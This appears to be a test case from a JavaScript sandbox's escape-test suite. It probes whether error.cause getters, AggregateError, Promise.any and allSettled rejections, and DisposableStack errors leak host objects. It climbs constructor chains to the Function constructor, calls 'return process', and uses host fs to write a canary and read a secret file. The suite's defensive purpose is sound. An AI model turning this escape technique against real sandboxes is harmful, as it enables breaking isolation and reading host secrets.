// attack: error.cause and AggregateError machinery around capability failures: cause getters (run by the engine), cyclic cause chains thrown to the runtime, AggregateError over an iterable Proxy, engine-made AggregateErrors (Promise.any) and settled records (Promise.allSettled) wrapping capability rejections, SuppressedError/DisposableStack and Error.isError where present; climb every object produced
// source: ECMA-262 Error Cause (ES2022) and AggregateError (ES2021); vm2 ATTACKS.md Category 1 (host errors reached indirectly); CVE-2023-37466 (rejections handed on unsanitised)
// needs: fs
// category: escape
// expect: blocked - everything the engine makes here comes from shared tamed intrinsics; the runtime reports a cyclic cause chain as a bounded message
const ID = '109-error-cause-aggregate';
// canary payload: does something only when handed the real host `process` / node:fs
const pwnFs = (nfs) => {
  nfs.mkdirSync('/tmp/sesame-canary', { recursive: true });
  nfs.writeFileSync('/tmp/sesame-canary/' + ID, 'escaped by ' + ID);
  return nfs.readFileSync('/tmp/sesame-secret/secret.txt', 'utf8');
};
const pwn = (proc) => pwnFs(typeof proc.getBuiltinModule === 'function' ? proc.getBuiltinModule('fs') : proc.mainModule.require('fs'));
const msg = (e) => { try { return String((e && e.message) || e).slice(0, 120); } catch (_) { return 'unprintable'; } };
const tried = [];
let untold = 0;
const note = (s) => { if (tried.length < 90) tried.push(s); else untold++; };
const attempt = async (label, thunk) => {
  try { const s = await thunk(); if (s) return { escaped: label, secret: s }; note(label + ': nothing'); }
  catch (e) { note(label + ': ' + msg(e)); }
  return undefined;
};
// every road from a value to a Function constructor: its own constructor chain and its prototypes'
const met = new Set();
const climb = async (label, v) => {
  const roads = [];
  const add = (how, f) => { if (typeof f === 'function' && !met.has(f)) { met.add(f); roads.push([how, f]); } };
  let o = v;
  for (let i = 0; i < 5 && o !== null && (typeof o === 'object' || typeof o === 'function'); i++) {
    try { add('.constructor', o.constructor); } catch (e) {}
    try { add('.constructor.constructor', o.constructor.constructor); } catch (e) {}
    try { o = Object.getPrototypeOf(o); } catch (e) { break; }
  }
  for (const [how, F] of roads) {
    const r = await attempt(label + how, () => pwn(F('return process')()));
    if (r) return r;
  }
  return undefined;
};
const climbAll = async (pairs) => {
  // a snapshot: climbing may run the attack's own traps, which record more values
  for (const [label, v] of pairs.slice(0, 2500)) { const r = await climb(label, v); if (r) return r; }
  return undefined;
};
const values = [];
const capErr = async (p) => { try { await p; } catch (e) { return e; } };
const e1 = await capErr(fs.readFile('no-such-file'));
const e2 = await capErr(fs.writeFile('config.json', '{}'));
values.push(['cap error 1', e1], ['cap error 2', e2]);
let causeReads = 0;
const opts = { get cause() { causeReads++; values.push(['cause getter this', this], ['cause getter args', arguments]); return e1; } };
try { values.push(['error with cause getter', new Error('outer', opts)]); } catch (e) { note('cause getter: ' + msg(e)); }
try { values.push(['TypeError cause chain', new TypeError('t', { cause: new RangeError('r', { cause: e2 }) })]); } catch (e) {}
const iter = new Proxy([e1, e2], { get(t, k, r) { values.push(['AggregateError iterable get ' + String(k), r]); return Reflect.get(t, k, r); } });
try { const agg = new AggregateError(iter, 'm', { cause: e1 }); values.push(['AggregateError', agg], ['agg.errors', agg.errors]); } catch (e) { note('AggregateError(proxy): ' + msg(e)); }
try { await Promise.any([fs.readFile('nope-a'), fs.readdir('nope-b'), Promise.reject(e2)]); } catch (agg) { values.push(['Promise.any rejection', agg]); try { for (const x of agg.errors) values.push(['any.errors[i]', x]); } catch (x) {} }
const settled = await Promise.allSettled([fs.readFile('data.txt', 'utf8'), fs.readFile('nope-c')]);
for (const s of settled) values.push(['allSettled record ' + s.status, s]);
if (typeof SuppressedError === 'function') { try { values.push(['SuppressedError', new SuppressedError(e1, e2, 's')]); } catch (e) { note('SuppressedError: ' + msg(e)); } } else note('SuppressedError: absent');
if (typeof DisposableStack === 'function') {
  try { const ds = new DisposableStack(); ds.defer(() => { throw e1; }); ds.defer(() => { throw e2; }); ds.dispose(); } catch (e) { values.push(['DisposableStack error', e]); }
} else note('DisposableStack: absent');
if (typeof Error.isError === 'function') note('Error.isError(capability error): ' + Error.isError(e1));
const hit = await climbAll(values);
if (hit) return hit;
// finally hand the runtime a cyclic cause chain and an AggregateError containing itself
const cyc = new Error('cyclic'); const cyc2 = new Error('cyclic2', { cause: cyc });
try { Object.defineProperty(cyc, 'cause', { value: cyc2 }); } catch (e) {}
const self = new AggregateError([], 'self'); try { self.errors.push(self); } catch (e) {}
note('cause getter ran ' + causeReads + 'x');
return { blocked: tried, untold, cyclicNote: String(cyc2.cause === cyc) };
